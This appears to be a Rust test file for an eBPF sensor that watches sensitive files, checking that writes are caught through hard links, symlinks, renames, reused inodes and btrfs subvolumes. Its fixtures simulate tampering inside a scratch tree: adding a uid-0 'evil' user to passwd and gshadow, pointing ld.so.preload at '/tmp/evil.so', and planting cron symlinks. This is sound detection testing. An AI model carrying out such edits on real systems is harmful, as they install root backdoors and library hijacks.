    assert!(at(&ev, "sensor.file_write.unresolved").is_null(), "{ev}");
    assert!(cron("e").exists() && cron("f").exists() && cron("h").exists());
    assert!(!cron("g").exists());
    let _ = shell.kill();
    let _ = shell.wait();
    let control = sh(
        &format!("echo root2 >> '{}'", tree.path("etc/passwd").display()),
        &tree.root,
    );
    sensor.wait_for("the control append", |v| write_by(v, "open_write", control));
    assert_quiet(&sensor, c, "up through a symlink to nowhere watched");
    assert_quiet(
        &sensor,
        g,
        "a rename through a removed link that found nothing",
    );
    // Counted: a, b, c, d and f found elsewhere than their bytes say; e,
    // g and h not followed.
    sensor.wait_for("a heartbeat counting the paths followed", |v| {
        action(v) == "heartbeat"
            && at(v, "sensor.heartbeat.path_resolution.elsewhere").as_u64() >= Some(5)
            && at(v, "sensor.heartbeat.path_resolution.unresolved").as_u64() >= Some(3)
    });
}

/// The sensor's process stopped (SIGSTOP) until dropped: the kernel keeps
/// its records in the ring buffer meanwhile.
struct Stopped(u32);

impl Stopped {
    fn new(sensor: &Sensor) -> Stopped {
        let pid = sensor.pid();
        // SAFETY: a signal to our own child.
        assert_eq!(unsafe { libc::kill(pid as i32, libc::SIGSTOP) }, 0);
        // Every thread of it, once each has stopped.
        let stopped = |stat: &str| {
            stat.rsplit_once(") ")
                .is_some_and(|(_, rest)| rest.starts_with('T') || rest.starts_with('t'))
        };
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
        loop {
            let all = std::fs::read_dir(format!("/proc/{pid}/task"))
                .expect("tasks")
                .flatten()
                .all(|t| std::fs::read_to_string(t.path().join("stat")).is_ok_and(|s| stopped(&s)));
            if all {
                return Stopped(pid);
            }
            assert!(std::time::Instant::now() < deadline, "sensor did not stop");
            std::thread::sleep(std::time::Duration::from_millis(5));
        }
    }
}

impl Drop for Stopped {
    fn drop(&mut self) {
        // SAFETY: as above.
        unsafe { libc::kill(self.0 as i32, libc::SIGCONT) };
    }
}

/// The kernel knows watched files by inode, and the tools that edit
/// /etc/passwd, /etc/shadow or /etc/sudoers replace the file with a rename
/// over it (a new inode); a watched file may also not exist yet when the
/// sensor starts (`/etc/ld.so.preload`). Writes to either are still
/// reported, by path at once, and by inode (a hard link to them included)
/// once the daemon has looked the paths up again (each counters tick).
#[test]
fn a_watched_file_replaced_or_created_later_stays_watched() {
    let tree = Tree::new();
    let preload = tree.path("etc/ld.so.preload");
    let config = format!(
        "{}[ebpf]\ncounters_interval_ms = 200\n",
        tree.config().replace(
            "paths = [",
            &format!("paths = [\"{}\", ", preload.display())
        )
    );
    let sensor = Sensor::start(&config);
    let passwd = tree.path("etc/passwd");

    // As passwd(1) and useradd write: a new file renamed over the old one.
    sh(
        "printf 'root:x:0:0::/root:/bin/sh\\nevil:x:0:0::/:/bin/sh\\n' > etc/passwd+ && mv etc/passwd+ etc/passwd",
        &tree.root,
    );
    let append = sh(&format!("echo root5 >> '{}'", passwd.display()), &tree.root);
    let create = sh(
        &format!("echo /tmp/evil.so > '{}'", preload.display()),
        &tree.root,
    );
    for (what, pid, path) in [
        ("an append to the replaced file", append, &passwd),
        ("the watched file created after the start", create, &preload),
    ] {
        let ev = sensor.wait_for(what, |v| write_by(v, "open_write", pid));
        assert_eq!(at(&ev, "file.path").as_str(), path.to_str(), "{ev}");
        assert_eq!(at(&ev, "sensor.file_write.watched").as_str(), path.to_str());
        assert_eq!(at(&ev, "event.outcome"), "success", "{ev}");
    }
    sensor.wait_for("the rename over the watched file", |v| {
        action(v) == "rename" && at(v, "sensor.file_write.new_path").as_str() == passwd.to_str()
    });

    // Once the daemon has the new inodes, a second name for either file is
    // that file.
    wait_refreshed(&sensor, &passwd);
    wait_refreshed(&sensor, &preload);
    std::fs::hard_link(&passwd, tree.path("other/pw-new")).expect("link");
    std::fs::hard_link(&preload, tree.path("other/preload")).expect("link");
    sh(
        "echo x >> other/pw-new && echo y >> other/preload",
        &tree.root,
    );
    for (name, path) in [("other/pw-new", &passwd), ("other/preload", &preload)] {
        let linked = tree.path(name);
        let ev = sensor.wait_for("an append through a hard link to the new inode", |v| {
            action(v) == "open_write" && at(v, "file.path").as_str() == linked.to_str()
        });
        assert_eq!(
            at(&ev, "sensor.file_write.watched").as_str(),
            path.to_str(),
            "{ev}"
        );
        assert_eq!(at(&ev, "sensor.file_write.matched_by"), "inode", "{ev}");
    }
}

/// A watched file reached by another name. Opens are matched by inode in
/// the kernel everywhere: a hard link to a watched file is that file, and
/// the event names the watched path. Truncate/unlink/rename are decided by
/// inode only where the fentry hooks load (the QEMU guests of `cargo xtask
/// vm-test` check that); elsewhere by their path argument, which a
/// symlinked directory evades. The sensor must say which, and do it.
#[test]
fn a_watched_file_reached_by_another_name() {
    let tree = Tree::new();
    let sensor = Sensor::start(&tree.config());
    let passwd = tree.path("etc/passwd");
    std::fs::hard_link(&passwd, tree.path("other/pw")).expect("link");
    std::os::unix::fs::symlink(tree.path("etc"), tree.path("other/e")).expect("symlink");
    for job in ["job1", "job2"] {
        std::fs::write(tree.path("etc/cron.d").join(job), b"x").expect("write");
    }
    let by_inode = sensor.stderr().iter().any(|l| {
        l.contains(
            "truncate/unlink/rename/link/symlink of watched files are also decided by the inode",
        )
    });
    if !by_inode {
        sensor.wait_for_log(
            "truncate/unlink/rename/link/symlink of watched files are decided by their path \
             argument only",
            std::time::Duration::from_secs(1),
        );
    }

    let append = sh("echo root3 >> other/pw", &tree.root);
    // Through the symlinked directory: relative (several components, sent
    // by the kernel and joined by the daemon) and absolute (not sent
    // unless decided by inode).
    let rm_relative = run("rm", &["other/e/cron.d/job1"], &tree.root);
    let linked_job2 = tree.path("other/e/cron.d/job2");
    let rm_absolute = run("rm", &[linked_job2.to_str().expect("utf-8")], &tree.root);
    // A symlink planted through the symlinked directory, by absolute path.
    let planted = tree.path("other/e/cron.d/planted");
    let ln_absolute = run(
        "ln",
        &["-s", "/tmp/x", planted.to_str().expect("utf-8")],
        &tree.root,
    );
    let control = sh(&format!("echo root4 >> '{}'", passwd.display()), &tree.root);

    let ev = sensor.wait_for("append through a hard link", |v| {
        write_by(v, "open_write", append)
    });
    assert_eq!(
        at(&ev, "file.path").as_str(),
        tree.path("other/pw").to_str(),
        "{ev}"
    );
    assert_eq!(
        at(&ev, "sensor.file_write.watched").as_str(),
        passwd.to_str(),
        "named by the inode the kernel matched: {ev}"
    );
    assert_eq!(at(&ev, "sensor.file_write.matched_by"), "inode", "{ev}");

    let control = sensor.wait_for("the control append", |v| write_by(v, "open_write", control));
    assert_eq!(at(&control, "sensor.file_write.matched_by"), "inode");
    let cron_dir = format!("{}/", tree.path("etc/cron.d").display());
    for (act, pid, path) in [
        ("unlink", rm_relative, tree.path("other/e/cron.d/job1")),
        ("unlink", rm_absolute, linked_job2.clone()),
        ("symlink", ln_absolute, planted.clone()),
    ] {
        if by_inode {
            let ev = sensor.wait_for(&format!("{act} through a symlinked directory"), |v| {
                write_by(v, act, pid)
            });
            assert_eq!(at(&ev, "file.path").as_str(), path.to_str(), "{ev}");
            assert_eq!(at(&ev, "sensor.file_write.watched"), cron_dir.as_str());
            assert_eq!(at(&ev, "sensor.file_write.matched_by"), "inode", "{ev}");
        } else {
            let seen: Vec<Value> = sensor
                .events()
                .into_iter()
                .filter(|v| write_by(v, act, pid))
                .collect();
            assert!(
                seen.is_empty(),
                "without the fentry hooks a symlinked path is not decidable, yet: {seen:?}"
            );
        }
    }
    // The actions ran either way.
    assert!(!tree.path("etc/cron.d/job1").exists());
    assert!(!tree.path("etc/cron.d/job2").exists());
    assert!(tree.path("etc/cron.d/planted").is_symlink());
}

/// A filesystem made by `mkfs` on a loop device; unmounted and removed on
/// drop.
struct LoopFs {
    /// Removed after the unmount (fields drop after `drop`).
    dir: sensor_tests::Scratch,
    mount: PathBuf,
}

/// Runs `cmd`, which must succeed (`what` says what it is for).
fn ok(cmd: &mut Command, what: &str) {
    let out = cmd.output().unwrap_or_else(|e| panic!("{what}: {e}"));
    assert!(
        out.status.success(),
        "{what}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

impl LoopFs {
    /// `mkfs` with `args` on a 300 MiB image (btrfs' least); `package`
    /// names where `mkfs` comes from, for the failure.
    fn new(mkfs: &str, args: &[&str], package: &str) -> LoopFs {
        let dir = sensor_tests::scratch_dir("sensor-loopfs");
        let image = dir.join("fs.img");
        let mount = dir.join("mnt");
        std::fs::create_dir_all(&mount).expect("mkdir");
        let file = std::fs::File::create(&image).expect("image");
        file.set_len(300 << 20).expect("size the image");
        ok(
            Command::new(mkfs).args(args).arg(&image),
            &format!("{mkfs} ({package}: `cargo xtask setup` installs it)"),
        );
        ok(
            Command::new("mount")
                .args(["-o", "loop"])
                .arg(&image)
                .arg(&mount),
            &format!("mount the {mkfs} image"),
        );
        LoopFs { dir, mount }
    }

    /// btrfs, with a subvolume `root`.
    fn btrfs() -> LoopFs {
        let fs = LoopFs::new("mkfs.btrfs", &["-q", "-f"], "btrfs-progs");
        ok(
            Command::new("btrfs")
                .args(["subvolume", "create"])
                .arg(fs.mount.join("root")),
            "btrfs subvolume create",
        );
        fs
    }
}

impl Drop for LoopFs {
    fn drop(&mut self) {
        let _ = Command::new("umount").arg(&self.mount).status();
    }
}

/// ext4 gives a freed inode number to the next file made in the same
/// block group: useradd's `/etc/subuid+` took that of the `/etc/gshadow`
/// it had just replaced by a rename, and the kernel reported it as the
/// watched file until the daemon's next look at the path. The new file
/// has another generation, which the kernel compares.
#[test]
fn a_new_file_given_a_replaced_watched_files_inode_number_is_not_that_file() {
    let fs = LoopFs::new("mkfs.ext4", &["-q"], "e2fsprogs");
    let etc = fs.mount.join("etc");
    std::fs::create_dir_all(&etc).expect("mkdir");
    let gshadow = etc.join("gshadow");
    std::fs::write(&gshadow, b"root:*::\n").expect("write");
    let sensor = Sensor::start(&format!(
        "[watch]\nuser_ssh_dirs = false\npaths = [\"{}\"]\n",
        gshadow.display()
    ));
    let ino = |p: &Path| std::os::unix::fs::MetadataExt::ino(&std::fs::metadata(p).expect("stat"));
    let old = ino(&gshadow);
    // Stopped, the daemon cannot look at the path again: the kernel
    // decides with the replaced inode's entry, as in the window between
    // two looks.
    // SAFETY: signals to our own child.
    unsafe { libc::kill(sensor.pid() as i32, libc::SIGSTOP) };
    sh(
        "printf 'root:*::\\nevil:*::\\n' > etc/gshadow+ && mv etc/gshadow+ etc/gshadow",
        &fs.mount,
    );
    let reused = (0..64)
        .map(|i| etc.join(format!("subuid+{i}")))
        .find(|p| {
            std::fs::write(p, b"").expect("create");
            ino(p) == old
        })
        .expect("ext4 gives the freed inode number to a new file in its directory");
    let write = sh(&format!("echo x >> '{}'", reused.display()), &fs.mount);
    // The watched file's new inode: the kernel has its directory, and
    // sends the open for the daemon to decide by its path.
    let control = sh(&format!("echo y >> '{}'", gshadow.display()), &fs.mount);
    // SAFETY: as above.
    unsafe { libc::kill(sensor.pid() as i32, libc::SIGCONT) };
    let ev = sensor.wait_for("the append to the watched file's new inode", |v| {
        write_by(v, "open_write", control)
    });
    assert_eq!(
        at(&ev, "sensor.file_write.watched").as_str(),
        gshadow.to_str()
    );
    assert_quiet(
        &sensor,
        write,
        "an append to the file with the reused inode number",
    );
    let named: Vec<Value> = sensor
        .events()
        .into_iter()
        .filter(|v| at(v, "file.path").as_str() == reused.to_str())
        .collect();
    assert!(named.is_empty(), "the new file reported: {named:?}");

    // The watched file removed and made again takes the same inode number
    // (the lowest free): the daemon's look at the path must still see a
    // new file (its birth time), or the kernel's entry keeps the old
    // generation and matches the file by inode no more.
    wait_refreshed(&sensor, &gshadow);
    let refreshes = |lines: &[String]| {
        lines
            .iter()
            .filter(|l| l.contains("watched paths with a new inode"))
            .count()
    };
    let before = refreshes(&sensor.stderr());
    let number = ino(&gshadow);
    // SAFETY: as above.
    unsafe { libc::kill(sensor.pid() as i32, libc::SIGSTOP) };
    std::fs::remove_file(&gshadow).expect("rm");
    std::fs::write(&gshadow, b"root:*::\n").expect("write");
    // SAFETY: as above.
    unsafe { libc::kill(sensor.pid() as i32, libc::SIGCONT) };
    assert_eq!(ino(&gshadow), number, "ext4 gives the freed number back");
    wait_until(
        &sensor,
        "the file made again at the same number is not looked up again",
        |lines| refreshes(lines) > before,
    );
    let append = sh(&format!("echo z >> '{}'", gshadow.display()), &fs.mount);
    let ev = sensor.wait_for("an append to the file made again", |v| {
        write_by(v, "open_write", append)
    });
    assert_eq!(
        at(&ev, "sensor.file_write.watched").as_str(),
        gshadow.to_str()
    );
    assert_eq!(at(&ev, "sensor.file_write.matched_by"), "inode", "{ev}");
}

/// On btrfs, `stat` reports each subvolume's own device while the kernel's
/// inode belongs to the filesystem's superblock, with another device: the
/// watched file must still be matched by inode (Fedora's and openSUSE's
/// /etc are on such a subvolume).
#[test]
fn a_watched_file_on_a_btrfs_subvolume_is_matched_by_inode() {
    let fs = LoopFs::btrfs();
    let etc = fs.mount.join("root/etc");
    std::fs::create_dir_all(&etc).expect("mkdir");
    let shadow = etc.join("shadow");
    std::fs::write(&shadow, b"root:*:1::::::\n").expect("write");
    let stat_dev = std::os::unix::fs::MetadataExt::dev(&std::fs::metadata(&shadow).expect("stat"));
    let sensor = Sensor::start(&format!(
        "[watch]\nuser_ssh_dirs = false\npaths = [\"{}\"]\n",
        shadow.display()
    ));
    let append = sh(&format!("echo x >> '{}'", shadow.display()), &fs.dir);
    let ev = sensor.wait_for("an append to the watched file on btrfs", |v| {
        write_by(v, "open_write", append)
    });
    assert_eq!(at(&ev, "file.path").as_str(), shadow.to_str(), "{ev}");
    assert_eq!(
        at(&ev, "sensor.file_write.watched").as_str(),
        shadow.to_str()
    );
    assert_eq!(at(&ev, "sensor.file_write.matched_by"), "inode");
    // What makes this case: the device stat reports is not the mount's.
    let mountinfo = std::fs::read_to_string("/proc/self/mountinfo").expect("mountinfo");
    let mount = fs.mount.to_str().expect("utf-8");
    let line = mountinfo
        .lines()
        .find(|l| l.split(' ').nth(4) == Some(mount))
        .expect("the btrfs mount in mountinfo");
    let superblock = line.split(' ').nth(2).expect("major:minor");
    let stat = format!("{}:{}", libc::major(stat_dev), libc::minor(stat_dev));
    assert_ne!(superblock, stat, "btrfs subvolume devices differ: {line}");
}
